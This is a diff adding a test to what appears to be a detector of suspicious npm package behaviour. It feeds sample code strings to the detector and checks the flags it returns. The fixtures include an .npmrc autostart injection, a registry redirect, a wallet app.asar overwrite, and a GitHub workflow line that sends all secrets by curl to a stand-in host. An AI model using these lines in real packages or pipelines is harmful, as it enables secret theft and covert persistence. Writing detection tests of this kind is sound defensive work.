@@ -17,6 +17,23 @@ describe('files that are written', () => {
     );
   });
 
+  it('tell npm or a build server what to do', () => {
+    const rc = (text: string): readonly string[] =>
+      behavioursOf(`fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '${text}');`);
+    assert.deepEqual(rc('\\nnode-options=--require /tmp/a.cjs\\n'), ['autostart import']);
+    assert.deepEqual(rc('registry=https://mirror.invalid/\\n'), ['downloads-redirected import']);
+    assert.deepEqual(rc('registry=https://registry.npmjs.org/\\nfund=false\\n'), []);
+    const flow = (run: string): readonly string[] =>
+      behavioursOf(
+        `fs.writeFileSync('.github/workflows/a.yml', 'env: { D: "\${{ toJSON(secrets) }}" }\\nrun: ${run}');`,
+      );
+    assert.deepEqual(flow('curl -d "$D" https://collect.invalid'), [
+      'workflow-written import',
+      'workflow-secrets import',
+    ]);
+    assert.deepEqual(flow('true'), ['workflow-written import']);
+  });
+
   it('are a program that somebody has installed, or a neighbour that was resolved', () => {
     const app = `path.join(os.homedir(), 'AppData/Local/Programs/wallet/resources/app.asar')`;
     assert.deepEqual(behavioursOf(`fs.writeFileSync(${app}, '');`), ['application-changed import']);
